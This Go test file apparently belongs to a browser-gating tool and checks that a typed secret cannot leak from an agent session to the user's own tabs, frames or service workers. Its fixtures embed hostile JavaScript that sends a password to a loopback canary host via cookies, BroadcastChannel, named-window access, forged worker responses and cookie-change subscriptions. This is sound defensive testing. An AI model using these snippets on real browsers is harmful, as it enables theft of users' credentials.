package main

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/serviceworker"
	"github.com/chromedp/chromedp"

	"github.com/browsergate/browsergate/internal/testkit"
)

// The user's own pages and workers beside a live session: paths a typed
// secret or a session page's request could take out through the user's
// own, unguarded pages and workers. Each runs a user's Chromium, a live
// session in its default context and the fixture's canary on 127.0.0.2,
// outside the scope.

// liveSecretManifest is the e2e manifest, live in the user's browser at
// endpoint, with APP_PASSWORD bound to 127.0.0.1.
func liveSecretManifest(endpoint string) string {
	return fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)) + `[secrets.APP_PASSWORD]
env = "BROWSERGATE_E2E_SECRET"
domains = ["127.0.0.1"]
`
}

// registerWorker is a page that registers /sw.js and says "ready" in #s
// once it is active.
const registerWorker = `<title>register</title><p id=s>registering</p><script>
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then(() => { document.getElementById('s').textContent = 'ready'; });
</script>`

// workerReady waits until the user's page of registerWorker says ready.
func workerReady(t *testing.T, user context.Context) {
	t.Helper()
	testkit.Eventually(t, func() string {
		s, err := chromedp.Run(user, chromedp.Evaluate[string](`document.getElementById('s').textContent`))
		if err != nil || s != "ready" {
			return fmt.Sprintf("the user's service worker is not ready (%q, %v)", s, err)
		}
		return ""
	})
}

// liveSecretFilesManifest is liveSecretManifest with 127.0.0.3 in the scope
// too (outside the secret's domains) and command with its [browser.files]
// directory key = dir.
func liveSecretFilesManifest(endpoint, command, key, dir string) string {
	return strings.Replace(fmt.Sprintf(e2eManifest, "live", fmt.Sprintf("live_endpoint = %q", endpoint)),
		`allowed_domains = ["127.0.0.1"]
allow_private_cidrs = ["127.0.0.1/32"]`, `allowed_domains = ["127.0.0.1", "127.0.0.3"]
allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32"]`, 1) + fmt.Sprintf(`[browser.commands.%s]
[browser.files]
%s = %q
[secrets.APP_PASSWORD]
env = "BROWSERGATE_E2E_SECRET"
domains = ["127.0.0.1"]
`, command, key, dir)
}

// userRegistersAndLeaves has the user open site's /register
// (registerWorker) in a tab of the user's browser at endpoint, wait for
// the worker, and close the tab: the worker stays registered, and runs on
// a while.
func userRegistersAndLeaves(t *testing.T, endpoint, site string) {
	t.Helper()
	user, cancelUser := chromedp.NewContext(usersBrowser(t, endpoint))
	defer cancelUser()
	if err := chromedp.Do(user, chromedp.Navigate(site+"/register")); err != nil {
		t.Fatal(err)
	}
	workerReady(t, user)
}

// workerSite serves a site on 127.0.0.1 of /sw.js (sw), /register
// (registerWorker, then register) and /form (form), has the user register
// the worker and leave (userRegistersAndLeaves), and returns the site.
func workerSite(t *testing.T, endpoint, sw, register, form string) string {
	t.Helper()
	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		page, kind := map[string]string{"/sw.js": sw, "/register": registerWorker + register, "/form": form}[r.URL.Path], "text/html"
		if page == "" {
			http.NotFound(w, r)
			return
		}
		if r.URL.Path == "/sw.js" {
			kind = "text/javascript"
		}
		w.Header().Set("Content-Type", kind)
		fmt.Fprint(w, page)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	userRegistersAndLeaves(t, endpoint, site)
	return site
}

// startLiveSecret starts a user's Chromium and a session live in it with
// liveSecretManifest, and returns the browser's endpoint.
func startLiveSecret(t *testing.T) (*fixture, string) {
	t.Helper()
	port, _ := startChromium(t)
	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
	return startWith(t, liveSecretManifest(endpoint)), endpoint
}

// canaryHasSecret fails the test when the canary saw a request, an
// upgrade or the secret's value.
func (f *fixture) canaryHasSecret(t *testing.T, what string) {
	t.Helper()
	f.canarySees(t, what, false)
}

// canarySees fails the test when the canary saw the secret's value (its
// first half, in any case, raw or percent-encoded) or, unless the user's
// own pages may reach it (users), any request or upgrade.
func (f *fixture) canarySees(t *testing.T, what string, users bool) {
	t.Helper()
	time.Sleep(2 * time.Second)
	seen := strings.ToLower(strings.Join(f.net.Seen(), "; "))
	if !users && (f.net.Hits() != 0 || f.net.Upgrades() != 0) {
		t.Errorf("%s: the canary saw %s", what, f.net)
	}
	if strings.Contains(seen, strings.ToLower(secretValue[:len(secretValue)/2])) {
		t.Errorf("%s: the canary saw the secret's value: %s", what, f.net)
	}
	if f.net.Conns() != 0 {
		t.Logf("%s: the canary saw %d connection(s) (requests %d)", what, f.net.Conns(), f.net.Hits())
	}
}

// TestSecretNotTypedBesideAUsersPageOfTheSite: cookies are a host's, not an
// origin's (no port, no scheme), and a page of one site frames another
// origin of it with first-party storage. A user's tab on the field's host
// at another port reads the cookie the field's page writes the value
// into, and sends it to the canary: type_text must be refused while it
// is open, naming it.
func TestSecretNotTypedBesideAUsersPageOfTheSite(t *testing.T) {
	t.Parallel()
	f, endpoint := startLiveSecret(t)
	site, _ := serveLogged(t, map[string]string{
		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
document.getElementById('pw').addEventListener('input', e => { document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/'; });
</script>`,
	})
	other, _ := serveLogged(t, map[string]string{
		"/reader": fmt.Sprintf(`<title>reader</title>the user's page of the site at another port<script>
let sent = '';
setInterval(() => { const c = document.cookie; if (c.includes('pw=') && c !== sent) { sent = c; fetch(%q + '?' + c, {mode: 'no-cors'}).catch(() => {}); } }, 100);
</script>`, f.canaryTo+"/cookie"),
	})
	usersTab(t, endpoint, other+"/reader")
	readerID := f.waitListed(t, "/reader")
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
	t.Logf("type_text beside the user's page of the site:\n%s", out)
	if !refused || !strings.Contains(out, "DENIED at secrets") || !strings.Contains(out, "tab "+readerID) {
		t.Errorf("type_text was not refused naming the user's tab %s of the field's site", readerID)
	}
	f.canaryHasSecret(t, "a user's tab of the field's site")
}

// TestSessionPageCannotReachTheUsersServiceWorker: a session page loses
// navigator.serviceWorker (user_context.js), but a frame it makes has a
// window of its own. A worker the user's browsing registered on the
// site (the user's tab then closed) is told by the session's page, through
// its own navigator, a blank frame's and a blank popup's, to fetch the
// canary; with a secret typed, the value too. Its own navigator has no
// serviceWorker (without user_context.js's getter the worker took the
// value to the canary); a blank document's container refuses
// (InvalidStateError, Chromium 156).
func TestSessionPageCannotReachTheUsersServiceWorker(t *testing.T) {
	t.Parallel()
	f, endpoint := startLiveSecret(t)
	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('message', e => { e.waitUntil(fetch(%q + '?v=' + encodeURIComponent(e.data), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/sw"), "", `<title>form</title><input type=password id=pw aria-label=Password><p id=r>-</p><script>
const say = m => document.getElementById('r').append(' ' + m);
function tell(v) {
  const fr = document.createElement('iframe'); document.body.append(fr);
  for (const [how, w] of [['self', window], ['frame', fr.contentWindow], ['popup', window.open('')]]) {
    try {
      const c = w && w.navigator.serviceWorker;
      if (!c) { say(how + ':none'); continue; }
      c.getRegistration('/').then(r => { r.active.postMessage(how + ':' + v); say(how + ':posted'); }, e => say(how + ':' + e));
    } catch (e) { say(how + ':' + e); }
  }
}
tell('on-load');
document.getElementById('pw').addEventListener('input', e => tell(e.target.value));
</script>`)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
	time.Sleep(time.Second)
	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.snapshot", nil))
	f.canaryHasSecret(t, "the session's page telling the user's worker on load")
	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
	t.Logf("type_text: %s", out)
	f.canaryHasSecret(t, "the session's page telling the user's worker the secret")
	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.snapshot", nil))
}

// TestSecretNotSharedWithAUsersFrameOfTheSite: a user's tab of another site
// (127.0.0.4, outside the scope) frames the field's origin; the frame
// listens for the value the field's page hands on (a cookie with
// SameSite=None and Secure, as a loopback page is a secure context,
// localStorage, BroadcastChannel) and sends what it gets to the canary.
// Blocked by Chromium, not by the gate: the frame's storage and
// BroadcastChannel are partitioned by its top-level site, and its cookies
// are third-party. The test fails if the user's browser ever shares them
// (a profile allowing third-party cookies, partitioning turned off), and
// the gate would then have to count the user's frames (OOPIF targets) of
// the field's site too.
func TestSecretNotSharedWithAUsersFrameOfTheSite(t *testing.T) {
	t.Parallel()
	f, endpoint := startLiveSecret(t)
	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
	site, _ := serveLogged(t, map[string]string{
		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>
document.getElementById('pw').addEventListener('input', e => {
  document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/; SameSite=None; Secure';
  localStorage.setItem('pw', e.target.value);
  new BroadcastChannel('pw').postMessage(e.target.value);
});
</script>`,
		"/frame": fmt.Sprintf(`<title>frame</title><script>
fetch(%q, {mode: 'no-cors'}).catch(() => {});
let sent = '';
const send = (how, v) => fetch(%q + '?' + how + '=' + encodeURIComponent(v), {mode: 'no-cors'}).catch(() => {});
new BroadcastChannel('pw').onmessage = m => send('bc', m.data);
setInterval(() => {
  const c = document.cookie + '|' + (localStorage.getItem('pw') || '');
  if (c !== '|' && c !== sent) { sent = c; send('store', c); }
}, 100);
</script>`, spy+"/loaded", f.canaryTo+"/frame"),
	})
	other, _ := serveLoggedOn(t, "127.0.0.4:0", map[string]string{
		"/embed": fmt.Sprintf(`<title>embed</title><iframe src=%q></iframe>`, site+"/frame"),
	})
	usersTab(t, endpoint, other+"/embed")
	// The control: the user's frame runs, and reaches the network.
	testkit.Eventually(t, func() string {
		if spyLog.count("/loaded") == 0 {
			return "the user's frame of the site has not run"
		}
		return ""
	})
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
	t.Logf("type_text beside the user's frame of the site (refused %v):\n%s", refused, out)
	f.canaryHasSecret(t, "a user's frame of the field's site")
}

// TestSecretNotTypedBesideADisownedOpener: a user's tab outside the scope
// (127.0.0.4) opens the site's form as a named popup, which disowns its
// opener (window.opener = null): of different origins with the link cut,
// the two are not taken for one group, so the popup is adopted and the
// secret typed. But disowning keeps the two in one browsing-context group
// (only noopener makes a new one): once the opener moves itself to the
// site's origin it finds the popup by name and reads the field. The
// secret must not be typed while such a page is there.
func TestSecretNotTypedBesideADisownedOpener(t *testing.T) {
	t.Parallel()
	f, endpoint := startLiveSecret(t)
	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
	site, _ := serveLogged(t, map[string]string{
		"/form": `<title>form</title><input type=password id=pw aria-label=Password><script>window.opener = null</script>`,
		"/evil": fmt.Sprintf(`<title>evil</title><script>
const w = window.open('', 'victim');
try {
  const v = w.document.getElementById('pw').value;
  fetch(%q + '?v=' + encodeURIComponent(v), {mode: 'no-cors'}).catch(() => {});
} catch (e) { fetch(%q, {mode: 'no-cors'}).catch(() => {}); }
</script>`, f.canaryTo+"/by-name", spy+"/not-found"),
	})
	elsewhere, _ := serveLoggedOn(t, "127.0.0.4:0", map[string]string{
		"/opener": fmt.Sprintf(`<title>elsewhere</title><button id=o onclick="window.open('%s/form', 'victim')">open</button>`, site),
	})
	user := usersBrowser(t, endpoint)
	if err := chromedp.Do(user, chromedp.Navigate(elsewhere+"/opener"), chromedp.Click("#o")); err != nil {
		t.Fatal(err)
	}
	form := f.waitListed(t, "/form")
	out, refused := f.call(t, "e2e.switch_tab", map[string]any{"tab": form})
	t.Logf("switch_tab (refused %v):\n%s", refused, out)
	if !refused {
		out, refused = f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
		t.Logf("type_text (refused %v):\n%s", refused, out)
	}
	// The opener moves itself to the site (the test has its script do it,
	// as a timer of its own could: a navigation the page starts keeps its
	// group, where one the browser starts may not).
	if _, err := chromedp.Run(user, chromedp.Evaluate[any](fmt.Sprintf(`location.href = %q`, site+"/evil"))); err != nil {
		t.Fatal(err)
	}
	time.Sleep(time.Second)
	if !refused || !strings.Contains(out, "DENIED at secrets") || !strings.Contains(out, "linked to the tab by an opener") {
		t.Errorf("the secret was typed with the popup's disowned opener open")
	}
	// The user's page (unguarded) reaches the canary, with no value.
	if n := spyLog.count("/not-found"); n != 0 {
		t.Errorf("the opener did not find the popup by name (%d): the test shows nothing", n)
	}
	f.canarySees(t, "the disowned opener, back by name", true)
}

// TestUsersServiceWorkerAndWindowsOutOfTheSessionsReach: a service
// worker the user's browsing registered on the site answers every
// navigation and frame with a document of its own and tells a server of
// its own; the user's tab of another site is named "uw". The session's own
// tab loads the site, with a frame of it, and from it a popup of it: each
// is fetched by the guard, not the worker (the spy hears nothing and the
// documents are the site's). A link of the session's page targets a
// window named "uw": the user's is in another browsing-context group, so
// the link opens a new popup of the session's, and the user's window
// stays where it was.
func TestUsersServiceWorkerAndWindowsOutOfTheSessionsReach(t *testing.T) {
	t.Parallel()
	f, endpoint := startLiveSecret(t)
	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/sw.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprintf(w, `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', e => {
  if (e.request.destination !== 'document' && e.request.destination !== 'iframe') return;
  fetch(%q, {mode: 'no-cors'}).catch(() => {});
  e.respondWith(new Response('<title>forged</title>forged by the worker', {headers: {'Content-Type': 'text/html'}}));
});`, spy+"/fetch-event")
		case "/register":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, registerWorker)
		case "/page":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<title>site</title><p>the site's own document</p><iframe src="/frame"></iframe>
<a id=pop href="/popup" target=_blank>popup</a> <a id=named href="/named" target=uw>named</a>`)
		case "/frame", "/popup", "/named":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, "<title>site %s</title>the site's %s", r.URL.Path, r.URL.Path)
		default:
			http.NotFound(w, r)
		}
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stopSite)
	elsewhere, _ := serveLoggedOn(t, "127.0.0.4:0", map[string]string{"/uw": `<title>uw</title><script>window.name = 'uw'</script>the user's window`})
	user := usersTab(t, endpoint, site+"/register")
	workerReady(t, user)
	// The control: the worker does answer the user's own navigations.
	if err := chromedp.Do(user, chromedp.Navigate(site+"/page")); err != nil {
		t.Fatal(err)
	}
	if title, err := chromedp.Run(user, chromedp.Title()); err != nil || title != "forged" {
		t.Fatalf("the worker does not answer the user's own navigation (title %q, %v): the test shows nothing", title, err)
	}
	if err := chromedp.Do(user, chromedp.Navigate(elsewhere+"/uw")); err != nil {
		t.Fatal(err)
	}
	before := spyLog.count("/fetch-event")
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/page"})
	snap := f.mustAllow(t, "e2e.snapshot", nil)
	if strings.Contains(snap, "forged") || !strings.Contains(snap, "the site's own document") || !strings.Contains(snap, "the site's /frame") {
		t.Errorf("the session's page or its frame shows the worker's document:\n%s", snap)
	}
	first := f.tabID(t, "e2e", "session", "/page")
	for _, c := range []struct{ link, path string }{{"#pop", "/popup"}, {"#named", "/named"}} {
		out := f.mustAllow(t, "e2e.click", map[string]any{"selector": c.link})
		t.Logf("click %s:\n%s", c.link, out)
		testkit.Eventually(t, func() string {
			if text, _ := f.call(t, "e2e.list_tabs", nil); !strings.Contains(text, c.path) {
				return "list_tabs does not show " + c.path + " yet:\n" + text
			}
			return ""
		})
		f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": f.tabID(t, "e2e", "session", c.path)})
		if snap := f.mustAllow(t, "e2e.snapshot", nil); !strings.Contains(snap, "the site's "+c.path) {
			t.Errorf("the popup of %s is not the site's document:\n%s", c.link, snap)
		}
		f.mustAllow(t, "e2e.switch_tab", map[string]any{"tab": first})
	}
	if n := spyLog.count("/fetch-event") - before; n != 0 {
		t.Errorf("the user's service worker saw %d navigation(s) of the session's pages", n)
	}
	if u, err := chromedp.Run(user, chromedp.Location()); err != nil || !strings.HasPrefix(u, elsewhere) {
		t.Errorf("the user's window named uw is at %q (%v)", u, err)
	}
	f.settleAndCheckCanary(t, "the session's page opening a window by the user's window's name")
}

// TestSecretNotTypedBesideAUsersWorkerOfTheSite: a service worker the user's
// browsing started on the site is still running when the user's tab of
// it has closed; it listens on a BroadcastChannel, which a session's page
// of the site shares (user_context.js leaves BroadcastChannel), and sends
// what it hears to the canary. type_text must be refused while such a
// worker runs, naming it.
func TestSecretNotTypedBesideAUsersWorkerOfTheSite(t *testing.T) {
	t.Parallel()
	f, endpoint := startLiveSecret(t)
	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
new BroadcastChannel('pw').onmessage = m => fetch(%q + '?v=' + encodeURIComponent(m.data), {mode: 'no-cors'}).catch(() => {});
// Kept running a while after its last page closed.
self.addEventListener('message', e => e.waitUntil(new Promise(r => setTimeout(r, 60000))));`, f.canaryTo+"/bc"), `<script>navigator.serviceWorker.ready.then(r => r.active.postMessage('stay'))</script>`, `<title>form</title><input type=password id=pw aria-label=Password><script>
const bc = new BroadcastChannel('pw');
document.getElementById('pw').addEventListener('input', e => bc.postMessage(e.target.value));
</script>`)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
	t.Logf("type_text (refused %v):\n%s", refused, out)
	if !refused || !strings.Contains(out, "DENIED at secrets") || !strings.Contains(out, "a service worker of the user's on the field's site") {
		t.Errorf("type_text was not refused naming the user's service worker of the site")
	}
	f.canaryHasSecret(t, "a user's worker of the site")
}

// TestSecretCannotWakeTheUsersWorker: the user's service worker of the site
// is stopped when the secret is typed, but subscribed to the site's
// cookies (Cookie Store API): the field's page writes the value into a
// cookie, which wakes the worker with the cookie's value, and the worker
// sends it to the canary.
func TestSecretCannotWakeTheUsersWorker(t *testing.T) {
	t.Parallel()
	f, endpoint := startLiveSecret(t)
	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(self.registration.cookies.subscribe([{name: 'pw', url: self.registration.scope}]).catch(err => fetch(%[2]q + '?err=' + encodeURIComponent(String(err)), {mode: 'no-cors'}))));
self.addEventListener('cookiechange', e => { for (const c of e.changed) e.waitUntil(fetch(%[1]q + '?v=' + encodeURIComponent(c.value), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/woken", spy+"/subscribe"), "",
		`<title>form</title><input type=password id=pw aria-label=Password><script>
document.getElementById('pw').addEventListener('input', e => { document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/'; });
</script>`)
	// The user's browser stops its workers (as it does an idle one).
	user := usersTab(t, endpoint, "about:blank")
	if _, err := chromedp.Call(user, serviceworker.Enable, cdp.Empty{}); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(user, serviceworker.StopAllWorkers, cdp.Empty{}); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond)
	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
	t.Logf("type_text (refused %v):\n%s", refused, out)
	if n := spyLog.count("/subscribe"); n != 0 {
		t.Errorf("the worker could not subscribe to the site's cookies (%d): the test shows nothing", n)
	}
	f.canaryHasSecret(t, "the user's worker woken by the site's cookie")
}
